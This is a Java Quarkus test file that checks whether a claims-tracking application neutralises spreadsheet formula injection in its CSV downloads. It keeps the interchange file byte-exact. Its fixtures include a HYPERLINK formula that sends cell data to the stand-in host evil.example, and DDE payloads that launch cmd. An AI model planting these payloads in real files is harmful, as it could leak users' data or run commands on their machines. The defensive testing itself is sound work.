package org.hasila.interchange;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.containsString;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.hasila.support.Api;
import org.hasila.support.Database;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Text a journalist or an importer typed never runs as a formula in the spreadsheet of a person who downloads it,
 * while the interchange file stays exact.
 */
@QuarkusTest
class FormulaInjectionTest {

    static final String HYPERLINK = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")";
    static final String PLUS = "+cmd|' /C calc'!A0";
    static final String MINUS = "-2+3+cmd|' /C calc'!A0";
    static final String AT = "@SUM(1+1)*cmd|' /C calc'!A0";
    static final String TIMELINE = "?conflict=2020-nagorno-karabakh-war&category=civilians-killed&subject=Azerbaijan";

    @Inject
    Database database;

    @BeforeEach
    void claimsThatCarryFormulas() {
        database.emptyClaimsRegister();
        Api.importCsv(Api.csv(
                row("claimant", HYPERLINK, "value", "47"),
                row("claimant", PLUS, "value", "48", "source_outlet", PLUS),
                row("claimant", MINUS, "value", "49", "quote", MINUS),
                row("claimant", AT, "value", "50", "source_title", AT, "notes", HYPERLINK)), "?publish=true")
                .statusCode(201);
    }

    @Test
    void theSpreadsheetDownloadNeutralisesEveryFormulaAndKeepsTheFigures() throws IOException {
        byte[] file = given().get("/api/v1/claims.csv?spreadsheet=true").then().statusCode(200)
                .header("Content-Disposition", containsString("hasila-claims-spreadsheet.csv")).extract().asByteArray();
        String text = new String(file, StandardCharsets.UTF_8);
        assertTrue(text.startsWith("\uFEFF\"conflict\",\"claimant\","), "a byte-order mark, then every cell quoted");
        List<CSVRecord> rows = parse(text.substring(1));
        assertEquals(List.of("'" + HYPERLINK, "'" + PLUS, "'" + MINUS, "'" + AT), column(rows, "claimant"));
        assertEquals("'" + PLUS, rows.get(1).get("source_outlet"));
        assertEquals("'" + MINUS, rows.get(2).get("quote"));
        assertEquals("'" + AT, rows.get(3).get("source_title"));
        assertEquals("'" + HYPERLINK, rows.get(3).get("notes"));
        assertEquals(List.of("47", "48", "49", "50"), column(rows, "value"));
        assertTrue(text.contains("\"47\""), "figures are quoted cells that spreadsheets read as numbers");
        noCellRuns(rows);
    }

    @Test
    void theTimelinesDataNeutralisesClaimantsNames() throws IOException {
        String text = given().get("/timelines/data.csv" + TIMELINE).then().statusCode(200).extract().asString();
        assertTrue(text.startsWith("\uFEFF\"claimant\","), text);
        List<CSVRecord> rows = parse(text.substring(1));
        assertTrue(column(rows, "claimant").containsAll(List.of("'" + HYPERLINK, "'" + PLUS, "'" + MINUS, "'" + AT)),
                text);
        noCellRuns(rows);
    }

    @Test
    void theInterchangeFileKeepsTheTextAndRoundTripsByteForByte() {
        byte[] first = given().get("/api/v1/claims.csv").then().statusCode(200).extract().asByteArray();
        String text = new String(first, StandardCharsets.UTF_8);
        assertTrue(text.startsWith("conflict,claimant,"), "no byte-order mark, quotes only where needed");
        assertTrue(text.contains(",\"" + HYPERLINK.replace("\"", "\"\"") + "\","), text);
        assertTrue(text.contains("," + PLUS + ","), text);
        database.emptyClaimsRegister();
        Api.importCsv(first, "?publish=true").statusCode(201);
        assertArrayEquals(first, given().get("/api/v1/claims.csv").then().statusCode(200).extract().asByteArray());
    }

    /** The valid row of {@link Api#row()} with columns replaced, written as RFC 4180 quotes it. */
    private static String row(String... columnsAndValues) {
        List<String> columns = List.of(Api.HEADER.split(","));
        String[] fields = Api.row().split(",", -1);
        for (int i = 0; i < columnsAndValues.length; i += 2) {
            fields[columns.indexOf(columnsAndValues[i])] = columnsAndValues[i + 1];
        }
        return CSVFormat.RFC4180.format((Object[]) fields);
    }

    private static List<CSVRecord> parse(String csv) throws IOException {
        return CSVFormat.RFC4180.builder().setHeader().get().parse(new StringReader(csv)).getRecords();
    }

    private static List<String> column(List<CSVRecord> rows, String name) {
        List<String> values = new ArrayList<>();
        rows.forEach(row -> values.add(row.get(name)));
        return values;
    }

    /** No cell starts as a formula does, unless it is a number. */
    private static void noCellRuns(List<CSVRecord> rows) {
        for (CSVRecord row : rows) {
            for (String cell : row) {
                assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0
                        && !cell.matches("[+-]?[0-9]+"), "runs in a spreadsheet: " + cell);
            }
        }
    }
}
